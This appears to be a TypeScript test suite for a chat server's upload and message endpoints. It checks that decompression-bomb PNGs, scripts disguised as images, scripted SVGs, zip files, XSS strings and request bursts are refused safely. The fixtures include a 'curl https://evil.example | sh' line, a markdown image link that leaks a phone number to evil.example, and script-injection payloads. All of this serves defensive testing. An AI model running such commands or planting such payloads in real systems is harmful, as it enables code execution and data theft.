/**
 * Hostile input against the web chat over real HTTP: decompression-bomb images, scripts dressed
 * as photos, SVG, archives, broken JPEGs, oversized bodies and bursts. Each is refused with a
 * clear code, nothing is stored, and the server keeps answering.
 */
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { WebClient, newClientId, startWebServer, type WebServer } from './web-client';

const FIXTURES = path.resolve(import.meta.dirname, '../fixtures/receipts');
let server: WebServer;

beforeAll(async () => {
  server = await startWebServer({
    UPLOAD_MAX_BYTES: String(600 * 1024),
    UPLOAD_MAX_PIXELS: String(4_000_000),
    WEB_UPLOADS_PER_MINUTE: '100',
    WEB_RATE_LIMIT_PER_MINUTE: '5',
    WEB_IP_RATE_LIMIT_PER_MINUTE: '100000',
  });
});
afterAll(async () => {
  await server?.dispose();
});

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'ascii');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(Buffer.concat([Buffer.from(type, 'ascii'), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}

/** A well-formed PNG header claiming 20000x20000 pixels (1-bit grey), whose rows compress to almost nothing. */
function pixelBomb(): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(20_000, 0);
  ihdr.writeUInt32BE(20_000, 4);
  ihdr.writeUInt8(1, 8); // bit depth
  ihdr.writeUInt8(0, 9); // greyscale
  const rowBytes = 1 + 20_000 / 8;
  const rows = zlib.deflateSync(Buffer.alloc(rowBytes * 2_000), { level: 9 }); // the first rows; enough to look real
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr), pngChunk('IDAT', rows), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A real one-file zip archive (stored, not compressed). */
function zipFile(): Buffer {
  const name = Buffer.from('receipt.jpg');
  const data = Buffer.from('not really a receipt');
  const crc = zlib.crc32(data) >>> 0;
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(local.length + name.length + data.length, 16);
  return Buffer.concat([local, name, data, central, name, end]);
}

const uploadsDir = () => path.join(server.dir, 'uploads');
const storedUploads = () => (fs.existsSync(uploadsDir()) ? fs.readdirSync(uploadsDir()) : []);

describe('hostile uploads', () => {
  const cases: [string, () => Buffer, string, number, string, RegExp][] = [
    ['a 20000x20000 PNG of a few kilobytes', pixelBomb, 'image/png', 413, 'image_too_many_pixels', /20000x20000/],
    ['a script renamed .jpg', () => Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n<script>alert(1)</script>\n'), 'image/jpeg', 415, 'unsupported_image_type', /JPEG, PNG, WebP/],
    [
      'an SVG with a script',
      () => Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'),
      'image/svg+xml',
      415,
      'unsupported_image_type',
      /SVG/,
    ],
    ['a zip archive', zipFile, 'image/jpeg', 415, 'unsupported_image_type', /application\/zip/],
    [
      'a truncated JPEG',
      () => {
        const jpg = fs.readFileSync(path.join(FIXTURES, 'zh-jpeg-tv.jpg'));
        return jpg.subarray(0, Math.floor(jpg.length / 2));
      },
      'image/jpeg',
      422,
      'image_unreadable',
      /damaged or incomplete/,
    ],
    ['an empty body', () => Buffer.alloc(0), 'image/png', 400, 'upload_empty', /empty/],
    ['a photo over the size cap', () => Buffer.concat([fs.readFileSync(path.join(FIXTURES, 'zh-jpeg-tv.jpg')), Buffer.alloc(700 * 1024)]), 'image/jpeg', 413, 'upload_too_large', /larger than/],
  ];

  it.each(cases)('refuses %s with a clear error, stores nothing and keeps serving', async (_name, make, type, status, code, message) => {
    const client = new WebClient(server.url);
    await client.startSession();
    const bytes = make();
    if (code === 'image_too_many_pixels') expect(bytes.length).toBeLessThan(8 * 1024);
    const res = await client.upload(bytes, type);
    expect({ status: res.status, code: res.body.error?.code }).toEqual({ status, code });
    expect(res.body.error.message).toMatch(message);
    expect(storedUploads()).toEqual([]);
    expect((await client.history()).body.messages).toEqual([]);
    // Still serving: health and an ordinary turn.
    expect((await fetch(`${server.url}/api/web/health`)).status).toBe(200);
    expect((await client.say('空调不制冷')).status).toBe(200);
  });

  it('takes a real receipt photo, reads it, and deletes the stored copy (server-made name, never served)', async () => {
    const client = new WebClient(server.url);
    await client.startSession();
    await client.say('格力空调显示E1');
    await client.say('还是不行');
    expect((await client.say('KFR-35GW')).body.replies[0].text).toMatch(/购买|发票/);
    const photo = fs.readFileSync(path.join(FIXTURES, 'zh-clean-air-conditioner.png'));
    const res = await client.upload(photo, 'application/octet-stream');
    expect(res.status).toBe(200);
    // The purchase date came from the photo: the form moves on to the phone number.
    expect(res.body.replies[0].text).toMatch(/手机号/);
    const history = (await client.history()).body.messages;
    expect(history.at(-2)).toMatchObject({ role: 'customer', text: '', attachments: [{ kind: 'image' }] });
    expect(JSON.stringify(history)).not.toContain(server.dir);
    expect(storedUploads()).toEqual([]);
  });
});

describe('hostile text', () => {
  it('stores script tags and markdown image links as plain text and returns them as JSON, not HTML', async () => {
    const client = new WebClient(server.url);
    await client.startSession();
    const attack = '<script>alert(1)</script><img src=x onerror=alert(2)> ![s](https://evil.example/p?d=13800000000)';
    const res = await client.say(attack);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    const mine = (await client.history()).body.messages[0];
    expect(mine.text).toBe(attack);
    // The bot's reply does not turn the link into a rendered image either.
    expect(res.body.replies[0].text).not.toMatch(/!\[[^\]]*\]\(https?:\/\/evil/);
  });
});

describe('bursts', () => {
  it('answers a burst beyond the per-session limit with 429 and Retry-After, per session', async () => {
    const client = new WebClient(server.url);
    await client.startSession();
    const statuses: number[] = [];
    let limited: Awaited<ReturnType<WebClient['say']>> | undefined;
    for (let i = 0; i < 8; i++) {
      const res = await client.request('POST', '/api/web/messages', { body: { clientMessageId: newClientId(), text: `第${i}条：空调不制冷` } });
      statuses.push(res.status);
      if (res.status === 429) limited ??= res;
    }
    expect(statuses.slice(0, 5)).toEqual([200, 200, 200, 200, 200]);
    expect(statuses.slice(5)).toEqual([429, 429, 429]);
    expect(limited!.body.error.code).toBe('rate_limited');
    expect(Number(limited!.headers.get('retry-after'))).toBeGreaterThan(0);
    // Another visitor is not held back by this one.
    const other = new WebClient(server.url);
    await other.startSession();
    expect((await other.say('洗衣机不排水')).status).toBe(200);
    // Refused messages were not stored.
    expect((await client.history()).body.messages.filter((m: any) => m.role === 'customer')).toHaveLength(5);
  });

  it('answers a burst from one IP address beyond its limit with 429 and Retry-After', async () => {
    const small = await startWebServer({ WEB_IP_RATE_LIMIT_PER_MINUTE: '12' });
    try {
      const statuses: number[] = [];
      let retryAfter: string | null = null;
      for (let i = 0; i < 15; i++) {
        const res = await fetch(`${small.url}/api/web/sessions`, { method: 'POST', headers: { Origin: small.url } });
        statuses.push(res.status);
        if (res.status === 429) retryAfter ??= res.headers.get('retry-after');
      }
      expect(statuses.filter((s) => s === 201)).toHaveLength(12);
      expect(statuses.slice(12)).toEqual([429, 429, 429]);
      expect(Number(retryAfter)).toBeGreaterThan(0);
    } finally {
      await small.dispose();
    }
  });

  it('turns new visitors away when the session table is full, and says when to come back', async () => {
    const small = await startWebServer({ WEB_MAX_SESSIONS: '3' });
    try {
      const client = new WebClient(small.url);
      for (let i = 0; i < 3; i++) await client.startSession();
      const full = await client.request('POST', '/api/web/sessions');
      expect(full.status).toBe(503);
      expect(full.body.error.code).toBe('too_many_sessions');
      expect(full.headers.get('retry-after')).toBe('60');
      // Idle sessions make room again.
      small.clock.advance(31 * 60_000);
      expect((await client.request('POST', '/api/web/sessions')).status).toBe(201);
    } finally {
      await small.dispose();
    }
  });
});
